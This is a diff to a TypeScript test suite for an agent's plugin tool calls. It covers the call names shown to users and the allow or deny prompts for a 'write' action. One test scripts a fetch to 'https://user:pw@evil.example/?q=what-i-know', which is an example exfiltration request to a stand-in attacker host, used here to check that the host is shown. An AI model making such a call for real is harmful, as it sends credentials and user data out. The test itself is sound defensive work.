@@ -1,5 +1,6 @@
 import {
   Chat,
+  type ChatMessage,
   CreateMockSet,
   DebugAPI,
   DelPlugin,
@@ -70,6 +71,7 @@ const call = (name: string, args: Record<string, unknown> = {}, id = 'call-1') =
   toolCalls: [{ id, name, arguments: args }],
 });
 const resultsOf = (events: readonly TestEvent[]) => messagesOf(events, 'tool_response').map(({ content }) => content);
+const shownOf = (message: ChatMessage | undefined) => JSON.parse(message?.extra_info.execute_display_name ?? '{}');
 const actionOf = (events: readonly TestEvent[]) =>
   messagesOf(events, 'verbose').find(({ required_action }) => required_action)?.required_action?.submit_tool_outputs
     .tool_calls[0];
@@ -221,7 +223,7 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
     const args = { url: 'https://user:pw@evil.example/?q=what-i-know', also: { to: [{ at: 'https://b.example/x' }] } };
     world.model.script(call('fetch', args), { text: ['Done.'] });
     const [called] = messagesOf(await chat.say('Fetch'), 'function_call');
-    expect(JSON.parse(called?.extra_info.execute_display_name ?? '{}')).toMatchObject({
+    expect(shownOf(called)).toMatchObject({
       name_executing: 'Calling Pets · fetch (evil.example, b.example)',
     });
     expect(world.model.requests.at(-1)?.body.messages[0]).toMatchObject({
@@ -279,10 +281,22 @@ describe('studio §3 plugin skill: an agent with a plugin', () => {
       ],
     });
     expect(count()).toBe(before);
-    expect(resultsOf(await answer(chat, paused, 'Do not allow'))[0]).toContain('does not allow');
+    expect(shownOf(messagesOf(paused, 'function_call')[0])).toEqual({
+      name_executing: 'Asks to call Pets · write',
+      name_executed: 'Called Pets · write',
+      name_execute_failed: 'Could not call Pets · write',
+    });
+    const [refused] = messagesOf(await answer(chat, paused, 'Do not allow'), 'tool_response');
+    expect(refused).toMatchObject({
+      content: expect.stringContaining('does not allow'),
+      extra_info: { plugin_status: '1' },
+    });
+    expect(shownOf(refused)).toMatchObject({ name_execute_failed: 'Did not call Pets · write' });
     expect(resultsOf(await answer(chat, await ask(), 'yes, sure'))[0]).toContain('was not made');
     expect(count()).toBe(before);
-    expect(answerTextOf(await answer(chat, await ask(), 'Allow once'))).toBe('Done.');
+    const allowed = await answer(chat, await ask(), 'Allow once');
+    expect(answerTextOf(allowed)).toBe('Done.');
+    expect(messagesOf(allowed, 'tool_response')[0]?.extra_info).not.toHaveProperty('execute_display_name');
     expect(count()).toBe(before + 1);
     await answer(chat, await ask(), 'Always allow');
     expect(answerTextOf(await ask())).toBe('Done.');
